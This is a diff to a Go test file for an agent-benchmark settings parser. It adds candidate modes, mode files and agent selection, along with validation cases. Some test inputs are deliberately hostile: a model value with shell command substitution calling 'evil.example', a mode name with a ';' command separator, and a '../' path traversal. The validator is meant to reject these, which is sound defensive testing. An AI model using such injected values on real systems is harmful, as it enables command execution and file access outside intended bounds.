@@ -55,8 +55,11 @@ labels: {run: bench, skip: no-bench}
 paths: ["packages/core/**", "!**/*.md"]
 profile: claim
 scenario_set: issues
-modes: [agent_direct, mcp, ghx]
+modes: [agent_direct, mcp, mytool]
 baseline_mode: mcp
+candidate_mode: mytool
+mode_files: [tools/mytool.yml]
+agent: codex
 repetitions: 2..8
 margins: {success: 10, cost: 1.1, latency: 1.3}
 model: scripted
@@ -80,7 +83,8 @@ check_name: agents
 	assert.Equal(t, settings.Settings{
 		Triggers: settings.Triggers{PullRequest: []string{"labeled", "synchronize"}, MergeGroup: true, Drafts: true},
 		Labels:   settings.Labels{Run: "bench", Skip: "no-bench"}, Paths: []string{"packages/core/**", "!**/*.md"},
-		Profile: bench.ProfileClaim, ScenarioSet: "issues", Modes: []bench.Mode{bench.AgentDirect, bench.MCP, bench.GHX}, BaselineMode: bench.MCP,
+		Profile: bench.ProfileClaim, ScenarioSet: "issues", Modes: []bench.Mode{bench.AgentDirect, bench.MCP, "mytool"}, BaselineMode: bench.MCP, CandidateMode: "mytool",
+		ModeFiles: []string{"tools/mytool.yml"}, Agent: "codex",
 		Repetitions: bench.Repetitions{First: 2, Most: 8}, Margins: settings.Margins{Success: 10, Cost: 1.1, Latency: 1.3}, Model: settings.Scripted, Target: "aryeko/ghx-bench-fixtures", Executor: settings.Local, Workflow: "measure.yaml", Benchmark: "tau-bench", TimeoutMinutes: 30,
 		Budget: settings.Budget{Run: 1.5, PullRequest: 5, Day: 20}, Commands: settings.Commands{Permission: "maintain"}, Forks: settings.ForksNever,
 		Comment: "on-change", OnNoVerdict: "failure", CheckName: "agents",
@@ -114,11 +118,17 @@ func TestMistakesPointAtTheirLine(t *testing.T) {
 		{"a range up to 999", "model: a/b\nprofile: regression\nrepetitions: 2..999\n", 3, "100 are the most"},
 		{"a range for fixed thresholds", "model: a/b\nrepetitions: 2..12\n", 2, "regression or claim"},
 		{"one repetition for evidence", "model: a/b\nprofile: claim\nrepetitions: 1\n", 3, "2 or more"},
-		{"modes that lack the baseline of the profile", "model: a/b\nprofile: regression\nmodes: [agent_direct, ghx]\n", 3, "lacks ghx@base, which is compared: add it, or compare with another by baseline_mode"},
+		{"modes that lack the baseline of the profile", "model: a/b\nprofile: regression\nmodes: [agent_direct, ghx]\n", 3, "lacks ghx@base, which is compared: add it, or name another in baseline_mode"},
 		{"a margin of nothing", "model: a/b\nmargins: {success: 0}\n", 2, "margins.success"},
 		{"a margin below 1", "model: a/b\nmargins:\n  cost: 0.9\n", 3, "margins.cost"},
 		{"a model with a shell's words", "model: \"$(curl evil.example)\"\n", 1, "model"},
-		{"an unknown mode", "model: a/b\nmodes: [agent_direct, gxh]\n", 2, `must be one of "agent_direct", "mcp", "ghx"`},
+		{"an unknown mode", "model: a/b\nmodes: [agent_direct, gxh]\n", 2, `did you mean "ghx"?`},
+		{"a mode without its file", "model: a/b\nmodes: [agent_direct, ghx, mytool]\n", 2, "name its file in mode_files"},
+		{"a mode with a shell's words", "model: a/b\nmode_files: [t.yml]\nmodes: [agent_direct, ghx, \"x;y\"]\n", 3, "modes"},
+		{"a mode file elsewhere", "model: a/b\nmode_files:\n  - ok.yml\n  - ../t.yml\n", 4, "a file of the repository"},
+		{"a mode file with a line end", "model: a/b\nmode_files: [\"a\\nb\"]\n", 2, "mode_files"},
+		{"one mode for both", "model: a/b\ncandidate_mode: agent_direct\n", 2, "name two modes"},
+		{"an agent that there is not", "model: a/b\nagent: cursor\n", 2, `"opencode", "claude-code", "codex"`},
 		{"modes without the candidate", "model: a/b\nmodes: [agent_direct, mcp]\n", 2, "lacks ghx"},
 		{"modes without the baseline", "model: a/b\nmodes: [mcp, ghx]\n", 2, "lacks agent_direct"},
 		{"an unknown set", "model: a/b\nscenario_set: isues\n", 2, `did you mean "issues"?`},
